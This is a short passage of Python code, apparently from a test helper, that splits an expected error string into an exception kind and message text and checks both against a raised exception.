    kind, _, text = error.partition(": ")
    return type(e).__name__ == kind and text in str(e)
